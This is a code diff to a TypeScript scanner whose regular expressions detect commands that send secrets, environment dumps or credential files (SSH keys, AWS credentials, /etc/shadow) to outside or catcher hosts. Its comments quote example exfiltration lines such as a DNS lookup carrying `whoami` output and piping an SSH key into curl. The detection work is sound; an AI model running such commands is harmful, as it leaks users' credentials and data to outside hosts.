@@ -6,7 +6,7 @@
  * exfiltration: `nslookup $(whoami).x.oast.fun`). The variable is read in the syntaxes of shells, CI expressions,
  * PowerShell, cmd, Groovy, Node and Python. A secret sent to its vendor's host or to a company's named host is not read.
  */
-import { CATCHER, isPublicAddress, namesSecret, sentElsewhere } from './carried.js';
+import { CATCHER, isPublicAddress, namesSecret, sentElsewhere, TUNNEL } from './carried.js';
 import type { Hit } from './codes.js';
 import type { Text } from './find.js';
 
@@ -36,23 +36,33 @@ function refersToSecret(s: string, labels: readonly string[] | null): boolean {
 /** A command or a call that sends a request (a URL's own scheme is not one). */
 const REQUESTER =
   /\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|axios|webclient|npm|pip)\b|\bhttp\s{1,3}(?:get|post|put|patch|delete)\b|\b(?:https?\.(?:get|request)|fetch|requests\.(?:get|post|put|patch|request)|urlopen)\s{0,2}\(|\bgit\s{1,3}(?:push|clone|fetch|pull|remote|ls-remote)\b/i;
-/** The whole environment as a request's body: `$(env)`, `env |`, `printenv >`, `process.env`, `os.environ` (not `env | grep APP_`). */
+/**
+ * The whole environment as a request's body: `$(env)`, `env |`, `printenv >`, `process.env`, `os.environ` (not `env |
+ * grep APP_`, not one variable of it, `process.env.X`, `os.environ.get(…)`, nor `{ ...process.env }` handed to a child).
+ */
 const ENV_DUMP =
-  /\$\(\s{0,2}(?:env|printenv|set)\s{0,2}(?:\)|\|(?!\s{0,3}(?:grep|awk|cut|head|sed|sort)\b))|(?:^|[\s;&(])(?:env|printenv|set)\s{0,2}[|>](?!\s{0,3}(?:grep|awk|cut|head|sed|sort)\b)|stringify\(\s{0,2}process\.env\s{0,2}\)|\.\.\.process\.env\b|\bdict\(\s{0,2}os\.environ\s{0,2}\)|\b(?:json|data)\s{0,2}=\s{0,2}(?:dict\()?os\.environ\b|\bbody:\s{0,2}process\.env\b/;
-/** Files that hold credentials (a public key, `id_rsa.pub`, does not). */
+  /\$\(\s{0,2}(?:env|printenv|set)\s{0,2}(?:\)|\|(?!\s{0,3}(?:grep|awk|cut|head|sed|sort)\b))|(?:^|[\s;&(])(?:env|printenv|set)\s{0,2}[|>](?!\s{0,3}(?:grep|awk|cut|head|sed|sort)\b)|stringify\(\s{0,2}process\.env\s{0,2}\)|\bdict\(\s{0,2}os\.environ\s{0,2}\)|\b(?:json|data)\s{0,2}=\s{0,2}(?:dict\()?os\.environ(?![.[\w])|\bbody:\s{0,2}process\.env(?![.[\w])/;
+/**
+ * Files that hold credentials, or a directory of them whole (`tar … ~/.ssh`); not a public key (`id_rsa.pub`), a
+ * directory's other files (`~/.ssh/config`, `known_hosts`), nor an env file's sample (`.env.example`).
+ */
 const SECRET_PATH =
-  /\.aws\/credentials|\.ssh\/id_\w{1,20}(?!\.pub)\b|~\/\.(?:ssh|aws|gnupg)\b|\.git-credentials|\.netrc\b|\.npmrc\b|\.pypirc\b|\.docker\/config\.json|\.kube\/config|\/etc\/(?:passwd|shadow)\b|gh\/hosts\.yml|(?:^|[\s@="'/])\.env\b/;
+  /\.aws\/credentials|\.ssh\/id_\w{1,20}(?!\.pub)\b|~\/\.(?:ssh|aws|gnupg)(?:\/(?![\w.-])|(?![\w./-]))|\.git-credentials|\.netrc\b|\.npmrc\b|\.pypirc\b|\.docker\/config\.json|\.kube\/config|\/etc\/(?:passwd|shadow)\b|(?:^|[\s@="'/])\.env(?![\w-]|\.(?:sample|example|template|dist|defaults?)\b)/;
 /**
  * What a command uploads (group 1): a file after `-d @`, `-F f=@`, `-T`, `--upload-file`, `--post-file=`, read by
  * `cat` into a pipe or a substitution, or archived by `tar` into a pipe (group 2, the archive's arguments).
  */
 const UPLOADED =
-  /(?:\s(?:-d|-F|--data(?:-binary|-raw|-urlencode|-ascii)?|--form|-T|--upload-file)\s{1,3}\\?["']?(?:[\w-]{1,40}=)?@?|--(?:post|body)-file=|\bcat\s{1,3})([^\s"'|)\\]{1,200})|\btar\s([^|\n]{1,200})\|/g;
+  /(?:\s(?:-d|-F|--data(?:-binary|-raw|-urlencode|-ascii)?|--form|-T|--upload-file)\s{1,3}\\?["']?(?:[\w-]{1,40}=)?@?|--(?:post|body)-file=|\bcat\s{1,3})([^\s"'|)\\]{1,200})/g;
+/** An archive made into a pipe, its arguments in group 1: read only on a line with a pipe (each `tar` read 200 code units on). */
+const TAR_PIPED = /\btar\s([^|\n]{1,200})\|/g;
 
 /** Whether a command uploads a credentials file (`--data-binary @~/.aws/credentials`, `cat ~/.ssh/id_rsa | curl -d @-`). */
 function uploadsSecretFile(line: string): boolean {
-  UPLOADED.lastIndex = 0;
-  for (let m = UPLOADED.exec(line); m; m = UPLOADED.exec(line)) if (SECRET_PATH.test(m[1] ?? m[2]!)) return true;
+  for (const re of line.includes('|') ? [UPLOADED, TAR_PIPED] : [UPLOADED]) {
+    re.lastIndex = 0;
+    for (let m = re.exec(line); m; m = re.exec(line)) if (SECRET_PATH.test(m[1]!)) return true;
+  }
   return false;
 }
 /** A shell's line continuation, raw or in a JSON string: the command goes on after it. */
@@ -92,10 +102,22 @@ export function sendsWithRequest(text: string, start: number, end: number, host:
   if (!catcher && !isPublicAddress(host)) return false;
   const line = commandAround(text, start, end);
   if (!REQUESTER.test(line)) return false;
+  // A URL given as a value after the request's own URL (`curl https://api.stripe.com/… -d url=https://….ngrok-free.app`,
+  // `"request_url":"…"`, `redirect_uri=`) is data the request carries to its own host, not where it goes.
+  if (VALUE_BEFORE.test(text.slice(Math.max(0, start - 4), start)) && line.lastIndexOf('://', line.indexOf(text.slice(start, end))) >= 0)
+    return false;
   const labels = host.split('.');
-  if (catcher ? refersToSecret(line, labels) : refersToSecret(rest + urlTail(text, end, rest), labels)) return true;
+  // A tunnel is a developer's own server as often as an attacker's (a model proxy behind ngrok takes `$OPENAI_API_KEY`):
+  // one variable sent there is not read, the whole environment or a credentials file is.
+  if (catcher && !TUNNEL.test(host) && refersToSecret(line.replace(SIGNING, ' '), labels)) return true;
+  if (!catcher && refersToSecret(rest + urlTail(text, end, rest), labels)) return true;
   return ENV_DUMP.test(line) || uploadsSecretFile(line);
 }
+
+/** What stands right before a URL given as a value: `=`, or a key's `:` and its value's quote. */
+const VALUE_BEFORE = /(?:=\\?["']?|:\s{0,2}\\?["'])$/;
+/** A substitution that signs with a secret (`$(… | openssl dgst -hmac "$SECRET" …)`): the key stays here, its digest is sent. */
+const SIGNING = /\$\([^()]{0,300}(?:openssl|hmac|sha\d{1,3}sum)[^()]{0,300}\)/gi;
 
 /** A value joined to a URL that ends in a parameter's `=` (`"http://…/?d=" + os.environ.get("X")`, `+ process.env.X`). */
 const JOINED = /^\\?["'`]\s{0,3}\+\s{0,3}([^\s)]{1,100})/;
@@ -172,7 +194,10 @@ function dynamicHostSends(host: string): boolean {
     .replace(/[:"'].{0,300}$/, '')
     .toLowerCase();
   if (!DOMAIN.test(domain)) return false;
-  return DNS_LOGGER.test(domain) || refersToSecret(pieces, null) || SECRET_PATH.test(pieces);
+  if (DNS_LOGGER.test(domain) || refersToSecret(pieces, null)) return true;
+  // A field taken out of a credentials file (`$(grep API_HOST .env | cut -d= -f2)`) is sent only when its name says a secret.
+  const field = /\bgrep\s{1,3}(?:-\w{1,4}\s{1,3}){0,3}["']?\^?([A-Za-z_]\w{1,60})/.exec(pieces);
+  return field !== null ? namesSecret(field[1]!.toUpperCase()) : SECRET_PATH.test(pieces);
 }
 
 /**
@@ -184,10 +209,12 @@ function dynamicHostSends(host: string): boolean {
 export function sendsInAuthority(text: string, from: number): boolean {
   const authority = wordAt(text, from, true);
   const at = authority.lastIndexOf('@');
-  const host = (at >= 0 ? authority.slice(at + 1) : authority).replace(/:\d{1,5}$/, '').toLowerCase();
-  // Only a catcher's or a tunnel's: a self-hosted git server or registry on a raw address takes the vendor's token so.
-  if (at > 0 && CATCHER.test(host) && refersToSecret(authority.slice(0, at), host.split('.'))) return true;
-  return dynamicHostSends(host);
+  // As written: a variable's name keeps its case (`$AWS_SECRET_ACCESS_KEY.x.tld`); the host's labels are compared lower-cased.
+  const written = (at >= 0 ? authority.slice(at + 1) : authority).replace(/:\d{1,5}$/, '');
+  const host = written.toLowerCase();
+  // Only a catcher's: a self-hosted git server or registry on a raw address, or behind a tunnel, takes the vendor's token so.
+  if (at > 0 && CATCHER.test(host) && !TUNNEL.test(host) && refersToSecret(authority.slice(0, at), host.split('.'))) return true;
+  return dynamicHostSends(written);
 }
 
 /** A lookup command, its options, and a host that starts with a variable or a substitution. */
